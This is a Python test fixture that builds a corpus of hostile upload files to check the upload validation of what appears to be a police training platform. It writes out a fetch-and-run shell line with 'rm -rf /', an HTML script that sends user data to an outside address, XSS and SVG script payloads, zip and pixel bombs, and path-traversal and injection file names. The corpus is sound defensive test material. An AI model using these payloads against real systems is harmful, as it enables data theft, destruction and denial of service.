"""A corpus of bad upload files, generated in code (no binary blobs in the repository).

Each `BadFile` is one kind of bad file: its bytes are built per *family* of upload surface
(`material`: curriculum files; `personnel`: HR lists, CSV/XLSX; `zoom`: Zoom reports, CSV;
`quiz`: GIFT/Aiken text), under every extension it pretends to have that the family accepts.
`NastyName` is a valid file under a hostile name. Builders are cached: the zip bombs cost a
few hundred milliseconds to make and are shared by every surface.

`multipart()` writes a multipart/form-data body by hand, because Django's test client reduces a
file name to its base name before sending it and would hide what a browser (or an attacker) can
really send.
"""

from __future__ import annotations

import functools
import io
import random
import struct
import uuid
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field

FAMILY_EXTENSIONS: dict[str, tuple[str, ...]] = {
    "material": ("pdf", "mp4", "xlsx", "png"),
    "personnel": ("csv", "xlsx"),
    "zoom": ("csv",),
    "quiz": ("txt",),
}

# --- Valid files, one per family (the starting point of several bad ones) -------------------

PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\n"
    b"trailer<</Root 1 0 R>>\n%%EOF\n"
)
PNG_1PX = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)
PERSONNEL_HEADER = "NRP,NAMA,PANGKAT,JABATAN,SATUAN"
PERSONNEL_ROWS = (
    "85010001,Agus Salim,Bripka,Banit Sabhara,POLSEK-KAPUAS-SANGGAU",
    "85010002,Dewi Lestari,Brigpol,Bamin,POLRES-SANGGAU",
)
ZOOM_HEADER = "Name (Original Name),User Email,Join Time,Leave Time,Duration (Minutes)"
ZOOM_ROWS = (
    "Andi Saputra,,11/15/2022 09:00:00 AM,11/15/2022 11:00:00 AM,120",
    "Rina Oktaviani,,11/15/2022 09:05:00 AM,11/15/2022 10:55:00 AM,110",
)
GIFT = (
    "::Q1::Apa kepanjangan ITE?{=Informasi dan Transaksi Elektronik ~Internet Teknologi}\n\n"
    "::Q2::UU ITE mengatur transaksi elektronik.{TRUE}\n"
)


def personnel_csv(rows: tuple[str, ...] = PERSONNEL_ROWS) -> str:
    return "\r\n".join((PERSONNEL_HEADER, *rows)) + "\r\n"


def zoom_csv(rows: tuple[str, ...] = ZOOM_ROWS) -> str:
    return "\r\n".join((ZOOM_HEADER, *rows)) + "\r\n"


@functools.cache
def personnel_xlsx() -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for line in (PERSONNEL_HEADER, *PERSONNEL_ROWS):
        sheet.append(line.split(","))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def valid(family: str, ext: str) -> bytes:
    """A file the family accepts, named `.ext`."""
    if family == "material":
        return {"pdf": PDF, "png": PNG_1PX, "xlsx": personnel_xlsx()}.get(ext) or _mp4()
    if family == "personnel":
        return personnel_xlsx() if ext == "xlsx" else personnel_csv().encode()
    if family == "zoom":
        return zoom_csv().encode()
    return GIFT.encode()


def _mp4() -> bytes:
    return (
        b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2"
        b"\x00\x00\x00\x08free\x00\x00\x00\x10mdat" + b"\x00" * 8
    )


def valid_text(family: str) -> str:
    return {"personnel": personnel_csv(), "zoom": zoom_csv(), "quiz": GIFT}[family]


# --- Programs and markup ---------------------------------------------------------------------

ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 44
PE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 44
    + b"\x80\x00\x00\x00"
    + b"This program cannot be run in DOS mode.\r\r\n$"
)
SHELL = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\nrm -rf / --no-preserve-root\n"
HTML_SCRIPT = (
    b"<!DOCTYPE html>\n<html><head><title>Materi</title></head>\n"
    b"<body><script>fetch('/api/v1/me/').then(r=>r.text()).then(t=>new Image().src="
    b"'https://203.0.113.9/?'+t)</script></body></html>\n"
)
HTML_HANDLER = b'<img src="x" onerror="alert(document.cookie)">\n<p>Materi pelatihan</p>\n'
SVG_SCRIPT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script></svg>\n"
)
SVG_ONLOAD = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>'
)


# --- Zip archives ----------------------------------------------------------------------------


def _zip(entries: dict[str, bytes], *, level: int = 9) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _entries(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


@functools.cache
def xlsx_bomb_deflated() -> bytes:
    """A real workbook whose sheet expands to 20 MB of rows (about 1000 times its packed size)."""
    entries = _entries(personnel_xlsx())
    row = b'<row><c t="inlineStr"><is><t>0</t></is></c></row>'
    sheet = entries["xl/worksheets/sheet1.xml"]
    head, _sep, tail = sheet.partition(b"</sheetData>")
    entries["xl/worksheets/sheet1.xml"] = head + row * (20 * 1024 * 1024 // len(row)) + _sep + tail
    return _zip(entries)


@functools.cache
def xlsx_bomb_declared() -> bytes:
    """A small workbook whose sheet's headers claim almost 4 GB once unpacked."""
    data = bytearray(personnel_xlsx())
    target = b"xl/worksheets/sheet1.xml"
    huge = struct.pack("<I", 0xFFFFFFF0)
    # Local file header: signature, then the uncompressed size at offset 22, name at 30.
    start = 0
    while (start := data.find(b"PK\x03\x04", start)) != -1:
        name_length = struct.unpack_from("<H", data, start + 26)[0]
        if data[start + 30 : start + 30 + name_length] == target:
            data[start + 22 : start + 26] = huge
        start += 4
    # Central directory header: uncompressed size at offset 24, name at 46.
    start = 0
    while (start := data.find(b"PK\x01\x02", start)) != -1:
        name_length = struct.unpack_from("<H", data, start + 28)[0]
        if data[start + 46 : start + 46 + name_length] == target:
            data[start + 24 : start + 28] = huge
        start += 4
    return bytes(data)


@functools.cache
def xlsx_too_many_entries() -> bytes:
    """A real workbook with 6000 extra empty parts (Office files have hundreds at most)."""
    entries = _entries(personnel_xlsx())
    entries.update({f"xl/media/p{n}.bin": b"" for n in range(6000)})
    return _zip(entries, level=1)


@functools.cache
def nested_zip() -> bytes:
    """42.zip in small: a ZIP (named .xlsx) of ZIPs, each holding 8 MB of zeros."""
    inner = _zip({"zeros.bin": b"\x00" * (8 * 1024 * 1024)})
    return _zip({f"layer{n}.zip": inner for n in range(8)})


@functools.cache
def not_a_zip() -> bytes:
    return random.Random(8).randbytes(3000)


def png_pixel_bomb() -> bytes:
    """A valid PNG header declaring 50000 x 50000 pixels (10 GB once decoded) over a few bytes."""
    import zlib

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body)
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", 50000, 50000, 8, 6, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1024))
        + chunk(b"IEND", b"")
    )


def truncated_xlsx() -> bytes:
    data = personnel_xlsx()
    return data[: len(data) // 2]


# --- Text in the wrong encoding --------------------------------------------------------------


def utf16_without_bom(family: str, ext: str) -> bytes:
    return valid_text(family).encode("utf-16-le")


def utf16_with_bom(family: str, ext: str) -> bytes:
    return valid_text(family).encode("utf-16")


def cp1252_personnel(family: str, ext: str) -> bytes:
    return personnel_csv(("85010003,José Sitompul,Bripka,Banit Lantas,POLRES-SANGGAU",)).encode(
        "cp1252"
    )


@functools.cache
def binary_garbage() -> bytes:
    return random.Random(1945).randbytes(4096)


# --- Truncated -------------------------------------------------------------------------------


def truncated_text(family: str, ext: str) -> bytes:
    """The family's valid text cut in the middle of its last row (a question: in its answers)."""
    text = valid_text(family)
    if family == "quiz":
        return text[: text.index("{=Informasi") + 8].encode()
    last = text.rstrip("\r\n").rsplit("\n", 1)[-1]
    return text[: text.rindex(last) + len(last) // 3].encode()


def oversized(family: str, ext: str) -> bytes:
    """A valid file padded past 1 MB (the tests lower every limit to 1 MB)."""
    if family == "material":
        return PDF.replace(b"%%EOF", b"%" + b"x" * (1100 * 1024) + b"\n%%EOF")
    if family == "personnel":
        rows = tuple(f"8{n:07d},Nama {n},Bripka,Bamin,POLRES-SANGGAU" for n in range(24000))
        return personnel_csv(rows).encode()
    if family == "zoom":
        return zoom_csv(ZOOM_ROWS * 8000).encode()
    return ("// " + "x" * 1100 * 1024 + "\n" + GIFT).encode()


# --- The corpus ------------------------------------------------------------------------------


@dataclass(frozen=True)
class BadFile:
    """One kind of bad file. `build(family, ext)` returns its bytes; `extensions` are the names
    it pretends to have (only those a family accepts are tried on that family). `expect` maps a
    family to a regular expression the (English) refusal must match, so a refusal that says
    nothing useful fails. `lines` maps a family to the line its refusal must name."""

    id: str
    build: Callable[[str, str], bytes]
    extensions: tuple[str, ...]
    expect: dict[str, str] = field(default_factory=dict)
    families: tuple[str, ...] = tuple(FAMILY_EXTENSIONS)
    lines: dict[str, int] = field(default_factory=dict)
    settings: dict[str, int] = field(default_factory=dict)


def _same(data: bytes | Callable[[], bytes]) -> Callable[[str, str], bytes]:
    return lambda family, ext: data() if callable(data) else data


ONE_MB = 1024 * 1024
LIMITS_1MB = {
    "MATERIAL_MAX_UPLOAD_BYTES": ONE_MB,
    "PERSONNEL_IMPORT_MAX_BYTES": ONE_MB,
    "ZOOM_IMPORT_MAX_BYTES": ONE_MB,
    "QUESTION_IMPORT_MAX_BYTES": ONE_MB,
}
TEXT = ("csv", "txt")

PROGRAM = dict.fromkeys(FAMILY_EXTENSIONS, r"program")
WEB_PAGE = dict.fromkeys(FAMILY_EXTENSIONS, r"web page \(HTML\)")
SVG_SCRIPT_REFUSAL = dict.fromkeys(FAMILY_EXTENSIONS, r"SVG image contains script")
ZIP_BOMB = dict.fromkeys(("material", "personnel"), r"ZIP bomb|parts|too large once unpacked")

# The extensions list says which names a file wears: each family gets the first one it accepts,
# so across the corpus every executable is tried as .pdf, .mp4, .xlsx, .csv and .txt.
BAD_FILES: tuple[BadFile, ...] = (
    BadFile("elf-program", _same(ELF), ("pdf", "csv", "txt"), PROGRAM),
    BadFile("windows-program", _same(PE), ("mp4", "xlsx", "csv", "txt"), PROGRAM),
    BadFile(
        "shell-script",
        _same(SHELL),
        ("xlsx", "csv", "txt"),
        dict.fromkeys(FAMILY_EXTENSIONS, r"script"),
    ),
    BadFile("html-with-script", _same(HTML_SCRIPT), ("pdf", *TEXT), WEB_PAGE),
    BadFile(
        "html-fragment-with-onerror",
        _same(HTML_HANDLER),
        ("pdf", *TEXT),
        {
            "material": r"contains script",
            "personnel": r"No header row",
            "zoom": r"no participant header",
            "quiz": r"no questions",
        },
    ),
    BadFile("svg-with-script", _same(SVG_SCRIPT), ("png", *TEXT), SVG_SCRIPT_REFUSAL),
    BadFile("svg-with-onload", _same(SVG_ONLOAD), ("png", *TEXT), SVG_SCRIPT_REFUSAL),
    BadFile(
        "over-the-size-limit",
        oversized,
        ("pdf", *TEXT),
        dict.fromkeys(FAMILY_EXTENSIONS, r"larger than|the limit is"),
        settings=LIMITS_1MB,
    ),
    BadFile("xlsx-bomb-deflated", _same(xlsx_bomb_deflated), ("xlsx",), ZIP_BOMB),
    BadFile("xlsx-bomb-declared-size", _same(xlsx_bomb_declared), ("xlsx",), ZIP_BOMB),
    BadFile("xlsx-too-many-parts", _same(xlsx_too_many_entries), ("xlsx",), ZIP_BOMB),
    BadFile(
        "xlsx-nested-zips",
        _same(nested_zip),
        ("xlsx",),
        {"material": r"ZIP archive", "personnel": r"cannot be read"},
    ),
    BadFile(
        "xlsx-not-a-zip",
        _same(not_a_zip),
        ("xlsx",),
        {"material": r"not one of the accepted types", "personnel": r"not an Excel workbook"},
    ),
    BadFile(
        "xlsx-truncated",
        _same(truncated_xlsx),
        ("xlsx",),
        dict.fromkeys(("material", "personnel"), r"damaged"),
    ),
    BadFile(
        "pdf-truncated",
        _same(lambda: PDF[: len(PDF) // 2]),
        ("pdf",),
        {"material": r"PDF is incomplete"},
    ),
    BadFile(
        "text-truncated-mid-row",
        truncated_text,
        TEXT,
        {"personnel": r"missing|empty", "zoom": r"fields", "quiz": r"brace|\}|answer"},
        families=("personnel", "zoom", "quiz"),
        lines={"personnel": 3, "zoom": 3, "quiz": 1},
    ),
    BadFile("zero-bytes", _same(b""), ("pdf", *TEXT), dict.fromkeys(FAMILY_EXTENSIONS, r"empty")),
    BadFile(
        "only-blank-lines",
        _same(b"\r\n \r\n\t\r\n"),
        TEXT,
        dict.fromkeys(FAMILY_EXTENSIONS, r"empty"),
        families=("personnel", "zoom", "quiz"),
    ),
    BadFile(
        "utf16-without-bom",
        utf16_without_bom,
        ("csv",),
        {"personnel": r"UTF-16"},
        families=("personnel",),
    ),
    BadFile(
        "utf16-with-bom",
        utf16_with_bom,
        ("csv",),
        {"personnel": r"UTF-16"},
        families=("personnel",),
    ),
    BadFile(
        "windows-1252-text",
        cp1252_personnel,
        ("csv",),
        {"personnel": r"not UTF-8.*CSV UTF-8"},
        families=("personnel",),
    ),
    BadFile(
        "binary-garbage",
        _same(binary_garbage),
        ("pdf", *TEXT),
        {
            "material": r"not one of the accepted types",
            "personnel": r"not UTF-8",
            "zoom": r"binary data",
            "quiz": r"binary data|not readable text",
        },
    ),
)


@dataclass(frozen=True)
class NastyName:
    id: str
    template: str  # "{ext}" is replaced by an extension the family accepts

    def name(self, ext: str) -> str:
        return self.template.replace("{ext}", ext)


NASTY_NAMES: tuple[NastyName, ...] = (
    NastyName("parent-traversal", "../../../etc/passwd.{ext}"),
    NastyName("traversal-into-media", "../media/materials/x/../../../../escaped.{ext}"),
    NastyName("absolute-path", "/etc/cron.d/materi.{ext}"),
    NastyName("windows-backslashes", "..\\..\\..\\Windows\\System32\\materi.{ext}"),
    NastyName("windows-drive", "C:\\Users\\budi\\..\\..\\materi.{ext}"),
    NastyName("nul-byte", "materi.sh\x00.{ext}"),
    NastyName("very-long", "a" * 400 + ".{ext}"),
    NastyName("only-dots", "...."),
    NastyName("dot-dot", ".."),
    NastyName("rtl-override", "laporan\u202etxt.exe.{ext}"),
    NastyName("control-characters", "mat\r\neri\t.{ext}"),
    NastyName("html-in-name", '"><script>alert(1)</script>.{ext}'),
)


def multipart(
    fields: dict[str, str], *, filename: str, data: bytes, file_field: str = "file"
) -> tuple[bytes, str]:
    """A multipart/form-data body with one file field (`file_field`) whose file name is sent
    exactly as given (quotes escaped, nothing else), and its Content-Type header value."""
    boundary = f"----polri-{uuid.uuid4().hex}"
    body = bytearray()
    for key, value in fields.items():
        body += (
            f'--{boundary}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n{value}\r\n'
        ).encode()
    quoted = filename.replace('"', "%22")
    body += (
        f'--{boundary}\r\nContent-Disposition: form-data; name="{file_field}"; '
        f'filename="{quoted}"\r\n'
        "Content-Type: application/octet-stream\r\n\r\n"
    ).encode("utf-8", "surrogateescape")
    body += data + f"\r\n--{boundary}--\r\n".encode()
    return bytes(body), f"multipart/form-data; boundary={boundary}"
